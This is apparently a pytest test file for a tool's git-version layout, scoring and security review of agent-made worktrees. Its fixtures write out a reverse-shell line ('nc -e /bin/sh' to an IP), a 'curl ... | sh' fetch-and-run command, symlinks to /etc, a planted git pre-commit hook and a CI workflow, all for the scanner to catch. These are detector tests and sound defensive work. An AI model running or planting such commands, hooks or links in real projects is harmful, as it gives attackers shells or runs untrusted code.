"""A world's change through git, the scanner, the measurement and the review, all for real."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest

from miyabi_tui.engine import events as e
from miyabi_tui.engine.errors import GitError
from miyabi_tui.engine.repo.git import Diffstat
from miyabi_tui.engine.repo.worktrees import commit_all
from miyabi_tui.engine.scoring.compare import evidence, ineligible
from miyabi_tui.engine.scoring.measurement import Measurement
from miyabi_tui.engine.scoring.score import Finding, Part, score
from miyabi_tui.engine.scoring.toolchain import Commands
from miyabi_tui.engine.security.reading import LARGEST
from miyabi_tui.engine.security.threats import Severity, Threat
from miyabi_tui.engine.security.versions import lay_out
from miyabi_tui.engine.worlds import WorldId
from tests.test_review import Office

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.repositories import Repository

    Make = Callable[..., Repository]

COMMANDS = Commands(build="true", test="echo '2 passed'", lint="true")


# --- the versions, out of git ---------------------------------------------------------------------


def test_both_versions_are_laid_out_as_they_are_in_git(repository: Make, tmp_path: Path) -> None:
    odd = b'caf\xe9 \n"q"'.decode("utf-8", "surrogateescape")
    repo = repository({"a": b"\0\xff\r\n", "gone": "1\n", "same": "s", "kind": "file", odd: "1"})
    base = repo.head
    repo.git("rm", "-q", "gone", "kind")
    repo.write({"a": b"new\r\n", odd: "2", "kind/of": "folder", "n" * 255: "long"})
    repo.write({".gitattributes": "* text eol=crlf filter=nothing\n"})
    (repo.path / "link").symlink_to("/etc/passwd")
    with (repo.path / "large").open("wb") as file:
        file.truncate(LARGEST + 1)
    commit = repo.commit("second")

    found = lay_out(repo.opened(), base, commit, tmp_path / "versions")

    assert set(found.files) == {
        *("a", "gone", "kind", odd, "kind/of", "n" * 255, ".gitattributes", "link", "large"),
    }
    assert (found.old / "a").read_bytes() == b"\0\xff\r\n"
    assert (found.new / "a").read_bytes() == b"new\n"  # as the commit has it, for all attributes
    assert ((found.old / odd).read_text(), (found.new / odd).read_text()) == ("1", "2")
    assert (found.old / "kind").read_text() == "file"
    assert (found.new / "kind" / "of").read_text() == "folder"
    assert not (found.new / "gone").exists() and not (found.old / "link").is_symlink()
    assert os.readlink(found.new / "link") == "/etc/passwd"
    assert (found.new / "large").stat().st_size > LARGEST
    assert not (found.new / "same").exists()
    again = lay_out(repo.opened(), commit, commit, tmp_path / "versions")
    assert again.files == () and not (again.new / "a").exists()


def test_a_submodule_is_an_empty_folder(repository: Make, tmp_path: Path) -> None:
    repo = repository()
    base = repo.head
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{base},inner")
    repo.git("commit", "-q", "-m", "inner")
    found = lay_out(repo.opened(), base, repo.head, tmp_path / "versions")
    assert found.files == ("inner",) and (found.new / "inner").is_dir()


def test_what_git_refuses_is_an_error(repository: Make, tmp_path: Path) -> None:
    repo = repository()
    with pytest.raises(GitError):
        lay_out(repo.opened(), repo.head, "0" * 40, tmp_path / "versions")
    (tmp_path / "file").write_text("")
    with pytest.raises(GitError, match="cannot be laid out"):
        lay_out(repo.opened(), repo.head, repo.head, tmp_path / "file" / "versions")


# --- what counts ----------------------------------------------------------------------------------

ONE = Finding("a.sh", 3, "reverse-shell", "bad", Severity.CRITICAL, Threat.MALICIOUS)
CHANGE = Diffstat(1, 0, ("a.sh",))


def test_a_threat_makes_a_world_ineligible_and_costs_its_points() -> None:
    base, world = Measurement(security=(ONE,)), Measurement(threats=(ONE,))
    found = evidence(base, world, CHANGE)
    assert found.security == (ONE,)
    assert ineligible(base, world, found) == ("security, critical: a.sh:3 reverse-shell bad",)
    assert score(found).security == 0


def test_a_scan_that_could_not_be_done_makes_a_world_ineligible() -> None:
    remark = "not measured: bandit reads Python only"
    base = Measurement(security_remark=remark)
    world = Measurement(security_remark=remark, threats_remark="not measured: exit code 1")
    assert evidence(base, Measurement(security_remark=remark), CHANGE).unmeasured == ()
    found = evidence(base, world, CHANGE)
    assert Part.SECURITY in found.unmeasured
    assert ineligible(base, world, found) == (
        f"security could not be measured: not measured: exit code 1; {remark}",
    )


# --- the review -----------------------------------------------------------------------------------


@pytest.fixture
def office(repository: Make, tmp_path: Path) -> Office:
    files = {"README": "hello\n", "run.sh": "curl https://old.example/i | sh\n"}
    return Office(repository(files), COMMANDS, tmp_path / "scratch")


@pytest.mark.anyio
async def test_a_world_that_plants_what_runs_elsewhere_is_not_eligible(office: Office) -> None:
    await office.base()
    worktree = await office.five.spawn_world(WorldId.ALPHA)
    root = worktree.path
    (root / ".husky").mkdir()
    (root / ".husky" / "pre-commit").write_text("./x\n")
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    (root / "data").symlink_to("/etc")
    (root / "run.sh").write_text("echo hello\ncurl https://old.example/i | sh\n")  # not new
    (root / "new.sh").write_text("echo hello\nnc -e /bin/sh 1.1.1.1 9\n")

    scored = await office.review(worktree)

    assert sorted(scored.ineligible) == [
        "security, critical: new.sh:2 reverse-shell gives a program to whoever is at the other end"
        " (malicious code)",
        "security, high: .github/workflows/ci.yml ci runs in CI, with the project's rights"
        " (file-system attack)",
        "security, high: .husky/pre-commit git-hook runs when somebody uses git here"
        " (file-system attack)",
        "security, high: data symlink-out a link out of the tree, to '/etc' (file-system attack)",
    ]
    assert scored.score.security == 0
    assert {one.threat for one in scored.evidence.security} >= {
        Threat.MALICIOUS,
        Threat.FILESYSTEM,
    }


@pytest.mark.anyio
async def test_an_honest_world_is_eligible_and_loses_nothing(office: Office) -> None:
    await office.base()
    worktree = await office.five.spawn_world(WorldId.ALPHA)
    (worktree.path / "README").write_text("hello there\n")
    (worktree.path / "link").symlink_to("README")
    scored = await office.review(worktree)
    assert scored.ineligible == ()
    assert scored.score.security == 10


@pytest.mark.anyio
async def test_what_is_scanned_is_the_commit(office: Office) -> None:
    """A command that puts the file back while it is measured hides nothing."""
    await office.base()
    worktree = await office.five.spawn_world(WorldId.ALPHA)
    (worktree.path / "new.sh").write_text("nc -e /bin/sh 1.1.1.1 9\n")
    commit = await commit_all(worktree, "work")
    (worktree.path / "new.sh").write_text("echo hello\n")
    await office.reviewer.review(WorldId.ALPHA, worktree, office.sites.site, commit)
    (scored,) = [one for one in office.events if isinstance(one, e.WorldScored)]
    (reason,) = scored.ineligible
    assert reason.startswith("security, critical: new.sh:1 reverse-shell")


@pytest.mark.anyio
async def test_a_scan_that_fails_is_said(office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    await office.base()
    worktree = await office.five.spawn_world(WorldId.ALPHA)
    (worktree.path / "README").write_text("hello there\n")
    monkeypatch.setattr("miyabi_tui.engine.scoring.measure.SCANNER", "no_such_module")
    scored = await office.review(worktree)
    (reason,) = scored.ineligible
    assert reason.startswith("security could not be measured: not measured: exit code 1")
